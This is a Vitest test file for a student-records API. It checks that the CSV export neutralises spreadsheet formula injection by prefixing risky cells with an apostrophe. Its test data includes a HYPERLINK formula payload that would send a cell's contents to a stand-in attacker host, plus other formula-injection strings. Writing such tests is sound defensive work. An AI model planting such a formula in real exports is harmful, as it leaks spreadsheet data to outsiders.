// CSV exports neutralise formula injection: a text cell a spreadsheet would evaluate (starting with =, +,
// -, @) comes out with a leading apostrophe, through the real export endpoint and the real data.
import { afterAll, beforeAll, expect, it } from 'vitest';
import { startServer, type TestServer } from '../helpers.ts';
import { apiClient, loginWith, type ApiCall } from '../../support/client.ts';
import { validPayload } from '../../support/samples.ts';

let s: TestServer;
let api: ApiCall;
let admin: string;
beforeAll(async () => {
  s = await startServer(import.meta.url);
  api = apiClient(s.base);
  admin = await loginWith(api, 'admin@demo.fr');
});
afterAll(async () => s?.close());

it('prefixes =, +, - and @ cells of an export with an apostrophe', async () => {
  const base = await validPayload(api, 'etudiants', { token: admin });
  const payloads = ['=HYPERLINK("http://pirate.example/?x="&A1;"clic")', '+33 CMD', '-2+3', '@SUM(A1:A9)'];
  for (const [i, lastname] of payloads.entries()) {
    const res = await api('POST', '/api/etudiants', { token: admin, body: { ...base, lastname, firstname: `Injection${i}` } });
    expect(res.status, res.text).toBe(201);
  }
  const res = await fetch(`${s.base}/api/etudiants/export.csv?firstname=Injection&pagination=false`, { headers: { authorization: `Bearer ${admin}` } });
  expect(res.status).toBe(200);
  const csv = await res.text();
  for (const value of payloads) {
    // Quoted or not, the cell starts with the apostrophe and never with the formula character itself.
    const quoted = `"'${value.replace(/"/g, '""')}"`;
    expect(csv.includes(quoted) || csv.includes(`'${value}`), value).toBe(true);
    expect(csv).not.toMatch(new RegExp(`(^|[;,\\n])"?${value.replace(/[.*+?^${}()|[\]\\]/g, '\\$&').replace(/"/g, '""')}`));
  }
});
